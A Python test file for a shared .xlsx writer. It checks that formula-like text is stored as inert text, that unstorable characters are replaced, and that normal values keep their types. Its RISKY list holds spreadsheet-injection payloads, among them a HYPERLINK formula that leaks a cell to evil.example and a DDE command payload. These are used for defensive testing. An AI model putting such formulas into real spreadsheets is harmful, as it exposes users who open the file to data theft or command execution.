"""The shared .xlsx writer (``fazhi_shared.service.xlsx``): every text cell that a
spreadsheet would take for a formula is written as text (issue 8, point 3); characters an
.xlsx cannot hold never break a workbook (point 2); other values keep their types."""
import io
import re
import zipfile
from datetime import date
from xml.etree import ElementTree

import openpyxl
import pytest

from fazhi_shared.service import xlsx

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
RISKY = ['=HYPERLINK("http://evil.example/?"&E2,"click")', "=cmd|' /C calc'!A0", "+1+1",
         "-2+3", "@SUM(A1)", "\t=1+1", "=1+1\n"]


def build(values) -> bytes:
    writer = xlsx.Writer()
    sheet = writer.sheet("数据")
    sheet.header(["值"], widths=[20])
    for value in values:
        sheet.append([value])
    return writer.to_bytes()


def cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
        styles = ElementTree.fromstring(z.read("xl/styles.xml"))
    assert re.search(rb"<(\w+:)?f[ >/]", xml) is None, "a formula was written"
    prefixed = {i for i, xf in enumerate(styles.find("m:cellXfs", NS))
                if xf.get("quotePrefix") in ("1", "true")}
    out = []
    for c in ElementTree.fromstring(xml).iterfind(".//m:c", NS):
        text = "".join(t.text or "" for t in c.iterfind(".//m:t", NS))
        value = c.find("m:v", NS)
        out.append((c.get("t"), text or (value.text if value is not None else None),
                    int(c.get("s", 0)) in prefixed))
    return out


def test_text_that_looks_like_a_formula_is_written_as_text():
    got = cells(build(RISKY))[1:]
    assert [(t, text) for t, text, _ in got] == [("inlineStr", v) for v in RISKY]
    assert all(prefixed for _, _, prefixed in got), got
    ws = openpyxl.load_workbook(io.BytesIO(build(RISKY)))["数据"]
    assert [ws.cell(row=i, column=1).value for i in range(2, 2 + len(RISKY))] == RISKY


def test_put_writes_text_too():
    writer = xlsx.Writer()
    sheet = writer.sheet("数据")
    sheet.put(1, 1, "=1+1")
    sheet.put(2, 3, "=2+2", "@")
    got = cells(writer.to_bytes())
    assert [(t, text) for t, text, _ in got] == [("inlineStr", "=1+1"), ("inlineStr", "=2+2")]


def test_ordinary_values_keep_their_types_and_no_quote_prefix():
    content = build(["阳光小区", -5, 89.35, date(2026, 1, 2), "a-b", "1=1"])
    got = cells(content)[1:]
    assert got[0] == ("inlineStr", "阳光小区", False)
    assert got[1][0] == "n" and got[1][1] == "-5"
    assert got[4] == ("inlineStr", "a-b", False) and got[5] == ("inlineStr", "1=1", False)
    ws = openpyxl.load_workbook(io.BytesIO(content))["数据"]
    assert ws["A5"].value.date() == date(2026, 1, 2)


@pytest.mark.parametrize("bad", ["A\x01B", "\x00", "x\x1b[31m", "\ud800", "\uffff"])
def test_characters_an_xlsx_cannot_hold_never_break_it(bad):
    ws = openpyxl.load_workbook(io.BytesIO(build([bad])))["数据"]
    assert ws["A2"].value == xlsx.clean_text(bad) and "\ufffd" in ws["A2"].value
